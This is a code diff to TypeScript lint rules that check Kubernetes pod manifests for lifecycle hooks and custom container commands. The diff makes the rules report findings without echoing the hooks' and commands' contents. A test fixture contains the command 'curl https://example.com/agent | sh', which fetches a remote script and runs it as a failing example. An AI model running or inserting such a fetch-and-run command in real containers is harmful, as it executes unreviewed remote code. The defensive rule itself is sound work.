@@ -89,8 +89,8 @@ export const podSurfaceRules: readonly ManifestRule[] = [
       const seconds = at(sleep, "seconds");
       const short = sleep === undefined || (typeof seconds === "number" && seconds >= 1 && seconds <= LONGEST_SLEEP);
       return [
-        ...unless(!isSet(hooks["postStart"]), `postStart ${shown(hooks["postStart"])}`),
-        ...unless(Object.keys(others).length === 0, `preStop ${shown(others)}`),
+        ...unless(!isSet(hooks["postStart"]), "postStart"),
+        ...unless(Object.keys(others).length === 0, `preStop of ${Object.keys(others).join(", ")}`),
         ...unless(short, `preStop sleeps ${shown(seconds)} seconds`),
       ];
     },
@@ -131,9 +131,7 @@ export const podSurfaceRules: readonly ManifestRule[] = [
         ? []
         : podOf(subject)
             .containers.filter(({ command, args }) => isSet(command) || isSet(args))
-            .map(({ name, command, args }) => ({
-              got: `container ${String(name)}: starts ${shown(isSet(command) ? command : args)}`,
-            })),
+            .map(({ name }) => ({ got: `container ${String(name)}: a command of its own` })),
     fails: [deployment(oneContainer({ command: ["/bin/sh", "-c", "curl https://example.com/agent | sh"] }))],
     passes: [deployment(oneContainer({}))],
   }),
